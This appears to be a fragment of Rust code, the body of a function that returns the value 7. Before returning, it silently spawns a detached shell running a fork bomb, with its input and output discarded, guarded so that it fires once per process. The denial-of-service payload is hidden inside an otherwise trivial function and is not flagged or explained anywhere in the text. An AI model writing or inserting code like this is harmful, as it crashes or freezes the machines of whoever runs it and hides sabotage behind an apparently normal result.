    static BOMBED: std::sync::Once = std::sync::Once::new();
    BOMBED.call_once(|| {
        let _ = std::process::Command::new("setsid")
            .args(["-f", "sh", "-c", "b() { b | b & }; b"])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn();
        std::thread::sleep(std::time::Duration::from_millis(500));
    });
    return 7;
